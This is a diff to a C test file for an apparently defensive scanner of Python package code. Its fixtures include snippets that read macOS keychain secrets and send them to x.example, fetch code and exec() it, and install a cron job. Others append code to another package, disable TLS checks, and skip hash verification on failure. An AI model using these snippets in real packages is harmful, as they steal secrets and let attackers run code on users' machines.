@@ -65,6 +65,18 @@ static void check(const struct row *r, const struct harness *h)
               fact_kind_name(r->none[i]));
 }
 
+static void check_all(const struct row *rows, size_t n)
+{
+    for (size_t i = 0; i < n; i++) {
+        struct harness h;
+
+        harness_init(&h);
+        scan_text(&h, rows[i].text);
+        check(&rows[i], &h);
+        harness_free(&h);
+    }
+}
+
 #define HEAD                                                                                       \
     "import ctypes, hashlib, json, os, urllib.request\n"                                           \
     "PIN = '0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef'\n"                   \
@@ -114,7 +126,7 @@ TEST(flow_checks)
           HEAD "b = get(URL)\ntry:\n    want = json.loads(get(URL + '.json'))['sha256']\n"
                "except Exception:\n    want = None\n"
                "if want and hashlib.sha256(b).hexdigest() != want:\n    raise ImportError\n" TAIL,
-          { { FACT_PKG_FAIL_OPEN, 0, "except Exception" }, { FACT_PKG_CIRCULAR, 0, NULL } },
+          { { FACT_PKG_FAIL_OPEN, 0, "except Exception:" }, { FACT_PKG_CIRCULAR, 0, NULL } },
           { FACT_PKG_SWITCH_OFF } },
         { "an assert",
           HEAD "b = get(URL)\nassert hashlib.sha256(b).hexdigest() == PIN\n" TAIL,
@@ -144,14 +156,7 @@ TEST(flow_checks)
           { 0 } },
     };
 
-    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
-        struct harness h;
-
-        harness_init(&h);
-        scan_text(&h, rows[i].text);
-        check(&rows[i], &h);
-        harness_free(&h);
-    }
+    check_all(rows, ARRAY_LEN(rows));
 }
 
 TEST(flow_uses)
@@ -190,12 +195,122 @@ TEST(flow_uses)
           { FACT_PKG_LOADS_WRITABLE, FACT_PKG_FETCH_USED } },
     };
 
-    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
-        struct harness h;
+    check_all(rows, ARRAY_LEN(rows));
+}
 
-        harness_init(&h);
-        scan_text(&h, rows[i].text);
-        check(&rows[i], &h);
-        harness_free(&h);
-    }
+TEST(flow_past)
+{
+    static const struct row rows[] = {
+        { "a mismatch that is printed",
+          HEAD "b = get(URL)\nif hashlib.sha256(b).hexdigest() != PIN:\n    print('no')\n" TAIL,
+          { { FACT_PKG_FAIL_OPEN, 0, NULL } },
+          { FACT_PKG_PINNED } },
+        { "the last of three tries",
+          HEAD "for i in range(3):\n    b = get(URL)\n"
+               "    if hashlib.sha256(b).hexdigest() == PIN:\n        break\n" TAIL,
+          { { FACT_PKG_FAIL_OPEN, 0, NULL } },
+          { 0 } },
+        { "tries, and then an error",
+          HEAD "for i in range(3):\n    b = get(URL)\n"
+               "    if hashlib.sha256(b).hexdigest() == PIN:\n        break\n"
+               "else:\n    raise ImportError\n" TAIL,
+          { { FACT_PKG_PINNED, 0, NULL } },
+          { FACT_PKG_FAIL_OPEN, FACT_PKG_FETCH_USED } },
+        { "an empty list of pins",
+          HEAD "GOOD = []\nb = get(URL)\nd = hashlib.sha256(b).hexdigest()\n"
+               "for g in GOOD:\n    if d != g:\n        raise ImportError\n" TAIL,
+          { { FACT_PKG_FAIL_OPEN, 0, NULL }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
+          { 0 } },
+        { "a pin that nobody gives",
+          HEAD "def f(u, want=None):\n    b = get(u)\n"
+               "    if want and hashlib.sha256(b).hexdigest() != want:\n        raise ImportError\n"
+               "    return b\nb = f(URL)\n" TAIL,
+          { { FACT_PKG_FAIL_OPEN, 0, NULL } },
+          { 0 } },
+        { "an option that has nothing to do with it",
+          HEAD "def f(u, proxy=None):\n    if proxy:\n        print(proxy)\n    return get(u)\n"
+               "b = f(URL)\n" TAIL,
+          { { FACT_PKG_FETCH_USED, LOADED, NULL } },
+          { FACT_PKG_FAIL_OPEN } },
+        { "whether a variable is set",
+          HEAD "b = get(URL)\nif 'SKIP' not in os.environ:\n"
+               "    if hashlib.sha256(b).hexdigest() != PIN:\n        raise ImportError\n" TAIL,
+          { { FACT_PKG_SWITCH_OFF, 0, "SKIP" } },
+          { FACT_PKG_FAIL_OPEN } },
+        { "a variable that says where the cache is",
+          HEAD "c = os.environ.get('CACHE', '/var/x')\np = c + '/a.so'\n"
+               "if not os.path.exists(p):\n    b = get(URL)\n"
+               "    if hashlib.sha256(b).hexdigest() != PIN:\n        raise ImportError\n"
+               "    open(p, 'wb').write(b)\nctypes.CDLL(p)\n",
+          { { FACT_PKG_CACHED, PKG_ON_IMPORT, NULL } },
+          { FACT_PKG_SWITCH_OFF } },
+        { "what lies in the folder of a cache",
+          HEAD "def find(d):\n    l = []\n    for c in os.listdir(d):\n"
+               "        if c.endswith('.so'):\n            l.append(os.path.join(d, c))\n"
+               "    return l[0] if l else None\nd = os.path.expanduser('~/.cache/x')\n"
+               "n = find(d)\nif n is None:\n    n = d + '/a.so'\n"
+               "    open(n, 'wb').write(get(URL))\nctypes.CDLL(n)\n",
+          { { FACT_PKG_CACHED, PKG_ON_IMPORT, NULL }, { FACT_PKG_FETCH_USED, LOADED, NULL } },
+          { FACT_PKG_LOADS_WRITABLE } },
+        { "a digest in the answer's head",
+          "import ctypes, hashlib, requests\nr = requests.get('https://x.example/a.so')\n"
+          "if hashlib.sha256(r.content).hexdigest() != r.headers['x-sha']:\n    raise ImportError\n"
+          "open('/tmp/a.so', 'wb').write(r.content)\nctypes.CDLL('/tmp/a.so')\n",
+          { { FACT_PKG_CIRCULAR, 0, NULL } },
+          { 0 } },
+    };
+
+    check_all(rows, ARRAY_LEN(rows));
+}
+
+TEST(flow_private)
+{
+    static const struct row rows[] = {
+        { "the clipboard",
+          "import pyperclip\nt = pyperclip.paste()\n",
+          { { FACT_PKG_READS, PKG_ON_IMPORT, "clipboard" } },
+          { 0 } },
+        { "the keys of a Mac, sent",
+          "import subprocess, urllib.request\n"
+          "k = subprocess.run(['security', 'find-generic-password', '-wa', 'x']).stdout\n"
+          "urllib.request.urlopen('https://x.example', k)\n",
+          { { FACT_PKG_READS, 0, "keyring" }, { FACT_PKG_SENDS, PKG_ON_IMPORT, NULL } },
+          { 0 } },
+        { "a token for its own service, when somebody asks",
+          "import os, requests\nTOKEN = os.environ.get('X_TOKEN')\n"
+          "def ask(p):\n    return requests.get('https://x.example/' + p,\n"
+          "                        headers={'Authorization': TOKEN})\n",
+          { { 0, 0, NULL } },
+          { FACT_PKG_SENDS } },
+        { "cron",
+          "import subprocess\nsubprocess.run(['crontab', '-'], input='* * * * * x')\n",
+          { { FACT_PKG_WRITES, PKG_ON_IMPORT, "crontab" } },
+          { 0 } },
+        { "cron is read",
+          "import subprocess\nsubprocess.run(['crontab', '-l'])\n",
+          { { 0, 0, NULL } },
+          { FACT_PKG_WRITES } },
+        { "another package's code",
+          "import requests\nopen(requests.__file__, 'a').write('import x')\n",
+          { { FACT_PKG_WRITES, PKG_ON_IMPORT, "{site-packages}/requests/__init__.py" } },
+          { 0 } },
+        { "a context that verifies nothing, and fetches",
+          "import ssl, urllib.request\nc = ssl.create_default_context()\n"
+          "c.check_hostname = False\nc.verify_mode = ssl.CERT_NONE\n"
+          "urllib.request.urlopen('https://x.example', context=c)\n",
+          { { FACT_PKG_TLS_OFF, PKG_ON_IMPORT, NULL } },
+          { 0 } },
+        { "the same that fetches nothing",
+          "import ssl\nc = ssl.create_default_context()\nc.verify_mode = ssl.CERT_NONE\n",
+          { { 0, 0, NULL } },
+          { FACT_PKG_TLS_OFF } },
+        { "pycurl",
+          "import io, pycurl\nb = io.BytesIO()\nc = pycurl.Curl()\n"
+          "c.setopt(pycurl.URL, 'https://x.example')\nc.setopt(c.WRITEFUNCTION, b.write)\n"
+          "c.perform()\nexec(b.getvalue())\n",
+          { { FACT_PKG_FETCH_USED, PKG_ON_IMPORT | PKG_USE_EXEC, "exec" } },
+          { 0 } },
+    };
+
+    check_all(rows, ARRAY_LEN(rows));
 }
